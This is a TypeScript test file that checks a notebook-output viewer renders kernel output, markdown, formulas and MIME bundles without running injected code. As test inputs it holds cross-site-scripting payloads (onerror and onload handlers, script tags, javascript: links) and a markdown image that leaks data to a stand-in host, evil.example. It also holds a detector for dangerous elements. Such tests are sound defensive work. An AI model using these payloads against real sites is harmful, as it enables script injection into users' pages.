// What kernels send never becomes a part of the viewer's own document.

import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readFrameMessage } from '../src/output/frame-protocol';
import { markdown } from '../src/output/markdown';
import { choose, pictureUrl } from '../src/output/mime';
import { FakeGateway, session } from './gateway';
import { close, open, page, until } from './page';
import { LogWriter } from './records';

const ATTACK =
  '<img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script><iframe srcdoc="x"></iframe>';

let gateway: FakeGateway;
beforeEach(() => {
  gateway = new FakeGateway();
  gateway.install();
});
afterEach(close);

describe('markup wherever it can stand', () => {
  it('is text in the viewer', async () => {
    gateway.sessions = [session({ name: ATTACK, reason: ATTACK, labels: { [ATTACK]: ATTACK } })];
    const log = new LogWriter();
    log.life({ event: 'dead', cause: ATTACK, over: false });
    const id = log.begin(ATTACK, 1);
    log.stream(id, ATTACK);
    log.message(id, 'error', { ename: ATTACK, evalue: ATTACK, traceback: [ATTACK] });
    log.message(id, 'display_data', { data: { 'text/plain': ATTACK } });
    log.message(id, 'display_data', { data: { 'application/json': { [ATTACK]: ATTACK } } });
    log.message(id, 'display_data', { data: { 'text/markdown': `${ATTACK}\n\n[x](javascript:globalThis.owned=1)` } });
    log.message(id, 'display_data', { data: { 'image/svg+xml': `<svg onload="globalThis.owned=1">${ATTACK}</svg>` } });
    log.message(id, 'display_data', { data: { 'text/html': ATTACK } });
    log.message(id, 'display_data', { data: { 'application/javascript': 'globalThis.owned=1' } });
    log.message(id, 'input_request', { prompt: ATTACK }, {}, 'stdin');
    gateway.write(log.records);
    gateway.instead.set('GET v1/sessions/eda', call =>
      call.path.includes('events') ? fall(gateway, call.path) : new Response(JSON.stringify(gateway.sessions[0]))
    );
    await open('#/');
    await until(() => expect(page()).toContain(ATTACK));
    expect(dangers()).toEqual([]);
    await open('#/s/eda');
    await until(() => expect(page()).toContain('javascript'));
    await until(() => expect(document.querySelector('.markdown a, .markdown p')).not.toBeNull());
    await until(() => expect(document.querySelectorAll('iframe')).toHaveLength(1));
    expect(dangers()).toEqual([]);
    expect(Object.hasOwn(globalThis, 'owned')).toBe(false);
  });
});

/** The stream of the gateway, past the answer that stands before it. */
function fall(gateway: FakeGateway, path: string): Promise<Response> {
  const before = new Map(gateway.instead);
  gateway.instead.clear();
  const answer = fetch(`http://localhost:3000/${path}`);
  for (const [key, handler] of before) gateway.instead.set(key, handler);
  return answer;
}

/** Elements and attributes that run something. */
function dangers(): string[] {
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    if (['SCRIPT', 'OBJECT', 'EMBED', 'BASE', 'FORM[action]'].includes(element.tagName)) found.push(element.outerHTML);
    if (element.tagName === 'IFRAME' && element.getAttribute('sandbox') !== 'allow-scripts')
      found.push(element.outerHTML);
    if (element.tagName === 'IMG' && !/^data:image\//.test(element.getAttribute('src') ?? ''))
      found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || /^\s*javascript:/i.test(value)) found.push(`${element.tagName} ${name}`);
    }
  }
  return found;
}

describe('Markdown', () => {
  const html = (source: string): string => {
    const box = document.createElement('div');
    box.append(markdown(source));
    return box.innerHTML;
  };

  it('keeps its form', () => {
    expect(html('# T\n\n**b** `c`')).toBe('<h1>T</h1>\n<p><strong>b</strong> <code>c</code></p>\n');
    expect(html('| a |\n|---|\n| 1 |')).toContain('<td>1</td>');
  });

  it('loses what runs, loads or dresses up', () => {
    for (const source of [
      '<script>x</script>',
      '<style>*{display:none}</style>',
      '<div style="position:fixed">x</div>',
      '<form action="/v1/sessions"><button>x</button></form>',
      '<a href="javascript:x">x</a>',
      '<a href="data:text/html,x">x</a>',
      '![x](https://evil.example/?leak)',
      '<img src="//evil.example/x">',
      '<p class="problem" id="app">x</p>',
      '<svg><script>x</script></svg>',
      '<math><mtext><img src=x onerror=x></mtext></math>'
    ]) {
      expect(html(source)).not.toMatch(/script|style|form|javascript:|data:text|evil|class=|id=|onerror|svg/);
    }
  });

  it('has formulas as code until they are drawn', () => {
    expect(html('a $x_1 < y_1$ b')).toContain('<code class="math">x_1 &lt; y_1</code>');
    expect(html('$$\n\\frac{a}{b}\n$$')).toContain('class="math math-display"');
    expect(html('**b** with $p \\approx 2100\\,a + 9000\\,r$.\n\n| a |\n|---|\n| 1 |')).toContain(
      '<code class="math">p \\approx 2100\\,a + 9000\\,r</code>.'
    );
    expect(html('costs $5 and $6')).not.toContain('math');
  });

  it('opens links beside the viewer and tells them nothing', () => {
    expect(html('[x](https://a.example/)')).toContain('target="_blank" rel="noopener noreferrer nofollow"');
  });
});

describe('a formula', () => {
  it('cannot link or run', async () => {
    const { formula } = await import('../src/output/math');
    const box = document.createElement('div');
    formula(box, '\\href{javascript:x}{y}', false);
    expect(box.querySelector('a, [href]')).toBeNull();
    formula(box, 'x^2', false);
    expect(box.querySelector('math')).not.toBeNull();
  });
});

describe('a bundle', () => {
  it('goes to a frame unless its type is safe', () => {
    const renderer = (...types: string[]) =>
      choose(Object.fromEntries(types.map(type => [type, 'x'])), () => false)?.renderer ?? null;
    expect(renderer('text/html', 'text/plain')).toBe('frame');
    expect(renderer('text/html', 'application/vnd.plotly.v1+json')).toBe('frame');
    expect(renderer('image/svg+xml')).toBe('picture');
    expect(renderer('image/png', 'text/plain')).toBe('picture');
    expect(renderer('application/javascript')).toBeNull();
    expect(renderer('application/x-unknown', 'text/plain')).toBe('text');
    expect(choose({ 'application/vnd.plotly.v1+json': {}, 'text/html': 'x' }, () => false)?.type).toBe(
      'application/vnd.plotly.v1+json'
    );
  });

  it('has pictures of base64 only', () => {
    expect(pictureUrl('image/png', 'AA\nAA==')).toBe('data:image/png;base64,AAAA==');
    expect(pictureUrl('image/png', 'x" onerror="y')).toBeNull();
    expect(pictureUrl('image/png', { a: 1 })).toBeNull();
    expect(pictureUrl('image/svg+xml', '<svg onload="x">')).toBe(
      'data:image/svg+xml;charset=utf-8,%3Csvg%20onload%3D%22x%22%3E'
    );
  });
});

describe('a message of a frame', () => {
  it('asks for a height, and for nothing else', () => {
    expect(readFrameMessage({ type: 'resize', height: 10.2, extra: 1 })).toEqual({ type: 'resize', height: 11 });
    expect(readFrameMessage({ type: 'resize', height: 1e9 })).toEqual({ type: 'resize', height: 20_000 });
    for (const other of [
      null,
      'x',
      {},
      { type: 'navigate' },
      { type: 'resize', height: '9' },
      { type: 'resize', height: Number.NaN }
    ]) {
      expect(readFrameMessage(other)).toBeNull();
    }
  });
});
